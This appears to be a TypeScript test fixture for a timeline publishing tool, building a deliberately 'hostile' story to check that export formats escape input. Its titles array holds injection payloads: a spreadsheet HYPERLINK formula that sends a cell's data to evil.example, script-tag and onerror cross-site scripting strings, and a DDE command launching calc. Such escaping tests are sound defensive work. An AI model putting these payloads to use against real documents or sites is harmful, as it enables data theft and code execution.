import { join } from 'node:path'
import { report } from '../issues/report.ts'
import { loadTimeline } from '../timeline/load.ts'
import { goodStories } from './good-stories.ts'
import { pixels, timelineOf } from './sample.ts'
import type { Timeline } from '../timeline/types.ts'

/** Where the tests’ site stands. */
export const address = (path: string) => `https://example.org/name${path}`

/** The stories that every format must carry: one as editors write them, two in other languages, and one that is out to break formats. */
export async function readStories(): Promise<Stories> {
  const directory = join(import.meta.dirname, 'stories/flood/content')
  const { timeline: own, issues } = await loadTimeline({ directory, base: '/name/' })
  if (!own) throw new Error(report(issues))
  const hostile = await timelineOf(hostileFiles, '/name/')
  const inOthers = ['in German, with quotations in „…“', 'in French, with quotations in « … »']
  const all: Stories['all'] = [
    ['a story of a flood', own],
    ['a hostile story', hostile],
    ...(await Promise.all(
      inOthers.map(
        async (name) => [`a story ${name}`, await timelineOf(goodStories[name], '/name/')] as const,
      ),
    )),
  ]
  return { own, hostile, all }
}

const titles: [id: string, date: string, title: string][] = [
  ['a-formula', '-0043', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
  ['b-cdata', '1991~', ']]> </script><script>alert(1)</script> ]]> <![CDATA[ --> &amp; &lt; &#x3C;'],
  ['c-tex', '2010-04', '100% of $5 & #1_2 {a {b \\c} ~d^e "f" ’g’ %00 \\textbf{h}'],
  ['d-right-to-left', '[..2020-10-08]', 'قال القيصر: «مرحبا, 5%» (שלום)'],
  ['e-emoji', '2020-10-05T18:30+06:00', '👩‍👩‍👧 🇳🇵 Ңү ө — café, ① 𝔘𝔫𝔦𝔠𝔬𝔡𝔢'],
  ['f-plus', '2020-10-04/2020-10-05', '+1;"2",\'3\' | 4\\n5'],
  ['g-minus', '2020-10/2020-10-06', '-2+3 <b>bold</b> & <img src=x onerror=alert(1)>'],
  ['h-at', '2021?/..', '@SUM(1+1)*cmd|’/C calc’!A0'],
]

const quoted = (text: string) => JSON.stringify(text)

const imageOf = (title: string) => `image:
  file: pixels.png
  alt: ${quoted(title)}
  caption: '“]]> no” & so [@paper, ¶ 1, said by speaker].'
  credit: ${quoted(title)}
  licence: { name: ${quoted(title)}, url: 'https://example.com/?a=1&b=2' }`

const hostileFiles: Record<string, string | Uint8Array | undefined> = {
  'images/pixels.png': pixels,
  'events/only.md': undefined,
  'sources/herald.yaml': undefined,
  'story.yaml': `
title: ${quoted('R&amp;D <&> ]]> “Ω” =1+1')}
standfirst: ${quoted('It’s "so" & <so>. ]]> </script> &amp;')}
covers: { when: 2020-10-04/2020-10-08, where: ${quoted('<Here> & "There"')} }
language: en
zone: Asia/Dhaka
publisher: { name: ${quoted('M&S <Co>, "Ltd"')}, url: 'https://example.com/?a=1&b=2' }
licence: { name: CC BY 4.0, url: 'https://creativecommons.org/licenses/by/4.0/' }
accent: { light: '#9a1b1e', dark: '#f2a48c' }
published: 2026-01-02
updated: 2026-01-02
`,
  'sources/paper.yaml': `
title: ${quoted('=1+1 “A” & <b> ]]> {x} 100%')}
container-title: ${quoted('The <Paper> & Son')}
author: ${quoted('O’Neil & {Sons}_1')}
issued: 2020-10-06
accessed: 2020-10/2020-11
URL: 'https://example.com/a_b~c?q=1&r={2}%20#top'
language: en
paragraphs: 5
caveat: ${quoted('state & <funded>')}
note: ${quoted('Bear in mind: <>&"')}
`,
  'sources/undated.yaml': `
type: report
title: Nothing is known
container-title: Nowhere
author: { unknown: no byline }
issued: { unknown: not printed }
accessed: { unknown: not noted }
URL: https://example.com/undated
language: { unknown: no words }
note: A source of which nothing is known.
`,
  'sources/tape.yaml': `
type: interview
title: What she remembers
container-title: Interview by <Us> & others
author: ${quoted('Ann <A> & B')}
issued: 2020-10-07
accessed: { unknown: it was spoken }
archive_location: ${quoted('Tape {3} & <4>, with "us"')}
language: en
note: Nobody else was there.
`,
  'sources/website.yaml': `
type: webpage
title: An old page
container-title: Old & plain
author: { unknown: no byline }
issued: 2001
accessed: 2020-10-07
URL: http://example.com/old?a=1&b=2
language: en
note: It has no address with https.
`,
  'people/speaker.yaml': 'name: "Ann <A> & B"\nkind: person\nrole: Speaks [@paper, ¶ 1].\n',
  'places/square.yaml':
    'name: "Square & <Co>"\nwhat: A square [@paper, ¶ 1].\ncountry: ID\ncoordinates: -8.05, 115.1 [@paper, ¶ 2]\n',
  'differences/how-many.yaml': `
question: ${quoted('How many & <how> "big"? ]]>')}
kind: measures
events: [b-cdata, a-formula]
accounts:
  - account: =1 <5 & “ten” [@paper, ¶ 1, said by speaker].
    by: ${quoted('<Ann> & Co')}
    as-of: 2020-10-06
    figure: { value: 10, unit: people }
  - account: None at all [@undated].
    by: Nobody
    as-of: { unknown: no date }
why: { text: 'Nobody knows <why> & how.', editor: true }
`
    .replaceAll('<5', '\\<5')
    .replaceAll('<why>', '\\<why>'),
  ...Object.fromEntries(
    titles.map(([id, date, title], index) => [`events/${id}.md`, event(date, title, index)]),
  ),
}

function event(date: string, title: string, index: number): string {
  const updates = [
    { day: '2026-01-04', kind: 'correction', was: 'was: "x" <y>' },
    { day: '2026-01-04', kind: 'clarification' },
    { day: '2026-01-03', kind: 'update' },
  ].map(
    ({ day, kind, was }) =>
      `  - { date: ${day}, kind: ${kind}, ${was ? `was: ${quoted(was)}, ` : ''}now: ${quoted(`Now ${title}`)}, why: ${quoted('& <why>')} }`,
  )
  return `---
title: ${quoted(title)}
date: ${quoted(date)}
label: ${quoted('at “night” & <day>')}
summary: ${quoted(`${title} ]]>`)}
kind: ${['background', 'story', 'to-come'][index % 3]}
people: [speaker]
places: [square]
tags: ["a, b", "=c & <d>"]
${index === 1 ? 'published: 2026-01-03' : ''}
${index === 2 ? imageOf(title) : ''}
${index === 0 ? `updates:\n${updates.join('\n')}` : ''}
---

Ann \\<A> & B said “]]> no & \\<b>no\\</b>” [@paper, ¶ 2, said by speaker on 2020-10-06; @undated], then *left* \\</script> [@paper, ¶¶ 3-4, "it was & so"].

- See [the paper](https://example.com/?a=1&b=2) and [the person](/people/speaker/) [@undated; @tape, 00:12:30; @website].
`
}

type Stories = { own: Timeline; hostile: Timeline; all: (readonly [name: string, story: Timeline])[] }
